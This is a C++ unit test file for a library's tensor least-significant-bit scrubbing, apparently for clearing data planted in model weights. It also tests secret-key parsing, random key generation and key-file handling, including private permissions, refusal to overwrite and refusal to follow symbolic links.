    for (std::size_t k = 0; k < 4000; ++k, ++groups) {
        const unsigned planted_bits = static_cast<unsigned>(brine::load_le32(planted.data() + 4 * k) & 3u);
        const unsigned scrubbed_bits = static_cast<unsigned>(brine::load_le32(data.data() + 4 * k) & 3u);
        groups_same += planted_bits == scrubbed_bits;
    }
    CHECK(static_cast<double>(groups_same) / static_cast<double>(groups) < 0.3);

    // Deterministic for a key; another key scrubs differently.
    std::vector<std::uint8_t> again = planted, other = planted;
    keyed_stream same_key(counting_key());
    scrub_change ignored;
    REQUIRE(brine::mtd::scrub_lsb(dtype::float32, mutable_view_of(again), 2, same_key, ignored));
    CHECK(again == data);
    keyed_stream::key_type other_key = counting_key();
    other_key[0] ^= 0x80;
    keyed_stream other_stream(other_key);
    REQUIRE(brine::mtd::scrub_lsb(dtype::float32, mutable_view_of(other), 2, other_stream, ignored));
    CHECK(other != data);
}

TEST_CASE("scrub: float16, bfloat16 and float64, every bit count") {
    std::mt19937_64 rng(16);
    for (dtype type : {dtype::float16, dtype::bfloat16, dtype::float32, dtype::float64}) {
        const std::size_t item_size = brine::torch::info(type).item_size;
        for (unsigned bits = 1; bits <= brine::mtd::mantissa_bits(type); ++bits) {
            CAPTURE(brine::torch::info(type).name);
            CAPTURE(bits);
            // Random bit patterns cover every class: normals, subnormals, zeros (forced), Inf, NaN.
            std::vector<std::uint8_t> data = sha_testing::random_bytes(rng, 3000 * item_size);
            std::fill(data.begin(), data.begin() + static_cast<std::ptrdiff_t>(2 * item_size), 0);
            const std::vector<std::uint8_t> before = data;
            keyed_stream stream(counting_key());
            scrub_change change;
            REQUIRE(brine::mtd::scrub_lsb(type, mutable_view_of(data), bits, stream, change));
            check_scrub(type, before, data, bits, change);
            CHECK(change.zeros >= 2);
            if (type == dtype::float16 || type == dtype::bfloat16) CHECK(change.skipped > 0);
            CHECK(data != before);
        }
    }

    // Values with a known change: 1.0 in float16 with its 3 low bits set to 7 at most moves by
    // 7 * 2^-10.
    std::vector<std::uint8_t> ones(2 * 1000);
    for (std::size_t k = 0; k < 1000; ++k) brine::store_le16(ones.data() + 2 * k, 0x3C00);
    keyed_stream stream(counting_key());
    scrub_change change;
    REQUIRE(brine::mtd::scrub_lsb(dtype::float16, mutable_view_of(ones), 3, stream, change));
    CHECK(change.max_abs == 7 * std::ldexp(1.0, -10));
    CHECK(change.max_rel == 7 * std::ldexp(1.0, -10));
}

TEST_CASE("scrub: the change report accumulates over calls") {
    std::vector<std::uint8_t> small = float32_bytes({1.0f, 2.0f});
    std::vector<std::uint8_t> large = float32_bytes({1024.0f, 4096.0f, 0.0f});
    keyed_stream stream(counting_key());
    scrub_change change;
    REQUIRE(brine::mtd::scrub_lsb(dtype::float32, mutable_view_of(large), 20, stream, change));
    const double large_abs = change.max_abs;
    REQUIRE(brine::mtd::scrub_lsb(dtype::float32, mutable_view_of(small), 20, stream, change));
    CHECK(change.values == 5);
    CHECK(change.zeros == 1);
    CHECK(change.max_abs == large_abs);  // the small tensor changed less in absolute terms
}

TEST_CASE("scrub: refusals") {
    std::vector<std::uint8_t> data(64);
    keyed_stream stream(counting_key());
    scrub_change change;
    auto refused = [&](dtype type, std::size_t size, unsigned bits) {
        const auto status = brine::mtd::scrub_lsb(type, mutable_byte_view(data.data(), size), bits, stream, change);
        CHECK_FALSE(status);
        CHECK(status.err().code == errc::invalid_argument);
        CHECK(status.err().offset == 0);
        CHECK(std::string(status.err().detail).size() > 0);
    };
    refused(dtype::float32, 64, 24);
    refused(dtype::float32, 64, 0);
    refused(dtype::bfloat16, 64, 8);
    refused(dtype::float16, 64, 11);
    refused(dtype::float64, 64, 53);
    refused(dtype::int32, 64, 1);
    refused(dtype::uint8, 64, 1);
    refused(dtype::complex64, 64, 1);
    refused(dtype::float32, 6, 1);
    refused(dtype::float64, 12, 1);
    refused(dtype::float16, 63, 1);
    CHECK(std::all_of(data.begin(), data.end(), [](std::uint8_t b) { return b == 0; }));
    CHECK(change.values == 0);

    // The limits themselves are accepted; an empty tensor too.
    CHECK(brine::mtd::scrub_lsb(dtype::bfloat16, mutable_byte_view(data.data(), 64), 7, stream, change));
    CHECK(brine::mtd::scrub_lsb(dtype::float64, mutable_byte_view(data.data(), 64), 52, stream, change));
    CHECK(brine::mtd::scrub_lsb(dtype::float32, mutable_byte_view(), 2, stream, change));
}

// ---------------------------------------------------------------------------------------------
// Secret key and key file

namespace {

std::string valid_key_hex() { return "00112233445566778899aabbccddeeff0123456789abcdeffedcba9876543210"; }

brine::result<brine::mtd::secret_key> parse(const std::string& text) {
    return brine::mtd::parse_key(brine::as_bytes(text));
}

void check_refused(const std::string& text, std::uint64_t offset) {
    CAPTURE(text);
    const auto key = parse(text);
    REQUIRE_FALSE(key);
    CHECK(key.err().code == errc::mtd_bad_key);
    CHECK(key.err().offset == offset);
    CHECK(std::string(key.err().detail).size() > 0);
}

}  // namespace

TEST_CASE("key: parse accepts 64 hex digits in either case, with one optional line ending") {
    const std::string hex = valid_key_hex();
    REQUIRE(hex.size() == 64);
    std::string upper = hex;
    std::transform(upper.begin(), upper.end(), upper.begin(), [](char c) { return static_cast<char>(std::toupper(c)); });
    std::string mixed = hex;
    for (std::size_t i = 0; i < mixed.size(); i += 2) mixed[i] = static_cast<char>(std::toupper(mixed[i]));

    for (const std::string& text : {hex, upper, mixed, hex + "\n", upper + "\r\n", mixed + "\n"}) {
        CAPTURE(text);
        const auto key = parse(text);
        REQUIRE(key);
        CHECK(hex_of(key->bytes.data(), key->bytes.size()) == hex);
    }
    CHECK(parse(hex)->bytes[0] == 0x00);
    CHECK(parse(hex)->bytes[1] == 0x11);
    CHECK(parse(hex)->bytes[31] == 0x10);
}

TEST_CASE("key: parse refuses anything else, at the offending offset") {
    const std::string hex = valid_key_hex();
    check_refused("", 0);
    check_refused(hex.substr(0, 63), 63);
    check_refused(hex.substr(0, 63) + "\n", 63);
    check_refused(hex + "0", 64);
    check_refused(hex + "a\n", 64);
    check_refused(hex + "\n\n", 65);
    check_refused(hex + "\nX", 65);
    check_refused(hex + "\r", 65);
    check_refused(hex + "\rX", 65);
    check_refused(hex + "\r\n\r\n", 66);
    check_refused(hex + " ", 64);
    check_refused(hex + " \n", 64);
    check_refused("0x" + hex.substr(0, 62), 1);
    check_refused(" " + hex, 0);
    for (std::size_t offset : {0u, 17u, 40u, 63u}) {
        for (char bad : {'g', 'G', ' ', '-', '\0', '\n'}) {
            std::string text = hex;
            text[offset] = bad;
            check_refused(text, offset);
        }
    }
    std::string high_bit = hex;
    high_bit[5] = static_cast<char>(0xC3);
    check_refused(high_bit, 5);
}

TEST_CASE("key: generate_key and os_random give fresh bytes every time") {
    const auto a = brine::mtd::generate_key();
    const auto b = brine::mtd::generate_key();
    REQUIRE(a);
    REQUIRE(b);
    CHECK(a->bytes != b->bytes);

    std::array<std::uint8_t, 32> first{}, second{};
    REQUIRE(brine::os_random(mutable_byte_view(first.data(), first.size())));
    REQUIRE(brine::os_random(mutable_byte_view(second.data(), second.size())));
    CHECK(first != second);
    CHECK(first != std::array<std::uint8_t, 32>{});

    CHECK(brine::os_random(mutable_byte_view()));
    std::vector<std::uint8_t> large(3 << 20);  // several MiB: more than one getrandom() answer may be needed
    REQUIRE(brine::os_random(mutable_view_of(large)));
    std::array<std::size_t, 256> histogram{};
    for (std::uint8_t byte : large) ++histogram[byte];
    const auto [least, most] = std::minmax_element(histogram.begin(), histogram.end());
    CHECK(*least > large.size() / 256 * 9 / 10);
    CHECK(*most < large.size() / 256 * 11 / 10);

#if BRINE_HAS_POSIX_FILES
    std::vector<std::uint8_t> from_device(4096);
    REQUIRE(brine::detail::read_dev_urandom(from_device.data(), from_device.size()));
    CHECK(from_device != std::vector<std::uint8_t>(4096));
#endif
}

#if BRINE_HAS_POSIX_FILES
TEST_CASE("key file: write a new file, read it back, never overwrite") {
    brine_test::scratch_dir dir("mtd-key");
    const std::string path = (dir / "model.key").string();

    const auto generated = brine::mtd::generate_key();
    REQUIRE(generated);
    REQUIRE(brine::mtd::write_new_key_file(path.c_str(), *generated));

    const auto content = brine_test::read_file(path);
    const std::string text(content.begin(), content.end());
    CHECK(text == hex_of(generated->bytes.data(), generated->bytes.size()) + "\n");
    struct stat info {};
    REQUIRE(::stat(path.c_str(), &info) == 0);
    CHECK((info.st_mode & 0777) == 0600);

    const auto read_back = brine::mtd::read_key_file(path.c_str());
    REQUIRE(read_back);
    CHECK(read_back->bytes == generated->bytes);

    // A second key under the same name is refused, and the first file is left as it was.
    const auto other = brine::mtd::generate_key();
    REQUIRE(other);
    const auto refused = brine::mtd::write_new_key_file(path.c_str(), *other);
    CHECK_FALSE(refused);
    CHECK(refused.err().code == errc::io_open_failed);
    CHECK(std::string(refused.err().detail).find("overwritten") != std::string::npos);
    CHECK(brine_test::read_file(path) == content);

    // Nor is a symbolic link followed to create or replace its target.
    const std::string link = (dir / "link.key").string();
    const std::string target = (dir / "target.key").string();
    REQUIRE(::symlink(target.c_str(), link.c_str()) == 0);
    CHECK(brine::mtd::write_new_key_file(link.c_str(), *other).err().code == errc::io_open_failed);
    CHECK(::access(target.c_str(), F_OK) != 0);

    // No directory to create it in.
    const std::string nowhere = (dir / "missing" / "model.key").string();
    CHECK(brine::mtd::write_new_key_file(nowhere.c_str(), *other).err().code == errc::io_open_failed);
}

TEST_CASE("key file: refusals when reading") {
    brine_test::scratch_dir dir("mtd-key-read");
    auto write = [&](const std::string& name, const std::string& text) {
        const std::string path = (dir / name).string();
        std::ofstream(path, std::ios::binary) << text;
        // Private, as read_key_file requires (tests/unit/mtd_binding.cpp checks the refusal).
        std::filesystem::permissions(path, std::filesystem::perms::owner_read | std::filesystem::perms::owner_write);
        return path;
    };

    const auto missing = brine::mtd::read_key_file((dir / "absent.key").string().c_str());
    REQUIRE_FALSE(missing);
    CHECK(missing.err().code == errc::io_open_failed);

    const auto directory = brine::mtd::read_key_file(dir.path().string().c_str());
    REQUIRE_FALSE(directory);
    CHECK(directory.err().code == errc::io_open_failed);

    const auto big = brine::mtd::read_key_file(write("big.key", valid_key_hex() + std::string(1000, '\n')).c_str());
    REQUIRE_FALSE(big);
    CHECK(big.err().code == errc::mtd_bad_key);
    CHECK(big.err().offset == brine::mtd::key_file_limit);

    const auto bad = brine::mtd::read_key_file(write("bad.key", valid_key_hex().substr(0, 20) + "z").c_str());
    REQUIRE_FALSE(bad);
    CHECK(bad.err().code == errc::mtd_bad_key);
    CHECK(bad.err().offset == 20);

    const auto empty = brine::mtd::read_key_file(write("empty.key", "").c_str());
    REQUIRE_FALSE(empty);
    CHECK(empty.err().offset == 0);

    const auto crlf = brine::mtd::read_key_file(write("crlf.key", valid_key_hex() + "\r\n").c_str());
    REQUIRE(crlf);
    CHECK(hex_of(crlf->bytes.data(), crlf->bytes.size()) == valid_key_hex());
}
#endif

